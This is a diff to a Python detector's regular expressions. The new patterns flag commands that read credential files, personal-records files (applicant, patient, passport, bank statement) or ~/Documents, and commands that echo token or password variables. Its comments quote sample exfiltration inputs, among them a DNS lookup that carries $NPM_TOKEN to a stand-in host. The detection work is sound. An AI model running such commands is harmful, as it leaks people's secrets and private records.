@@ -40,11 +40,17 @@ _SECRET_FILE = (
     r"|\.npmrc|\.pypirc|\.pgpass|\.git-credentials|\.docker/config|\.kube/config"
     # a pod's service-account token, a TLS private key directory, Terraform state (fresh37's
     # misses); not any ".pem" (certificates are uploaded to CDNs and CAs in their docs)
-    r"|/var/run/secrets/|serviceaccount/token|/etc/ssl/private/|\.tfstate\b)"
+    r"|/var/run/secrets/|serviceaccount/token|/etc/ssl/private/|\.tfstate\b"
+    # people's records and papers (fresh45-46's misses, read after their evaluation):
+    # "$(cat applicants_export.csv)", "-F file=@~/Documents/passport.pdf"
+    r"|(?:applicant|customer|client|contact|patient|member|tenant|employee|payroll|salar"
+    r"|passport|bank_?statement)\w*[\w.-]*\.(?:csv|xlsx?|json|pdf|db|sqlite)\b|~/Documents/)"
 )
 _SUBST_SECRET_RE = re.compile(
     r"\$\(\s*(?:(?:env|printenv|set)\b|(?:cat|head|tail|base64|xxd|od|gzip)\s+[^)\n]*?"
-    rf"{_SECRET_FILE})",
+    rf"{_SECRET_FILE}"
+    # a secret's variable echoed into a command: "dig $(echo $NPM_TOKEN).check.example"
+    r"|echo\s+[\"']?\$\{?[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|CREDENTIALS?)\b)",
     re.IGNORECASE,
 )
 # A credentials file sent as a request's body or upload (matched from each "curl " and
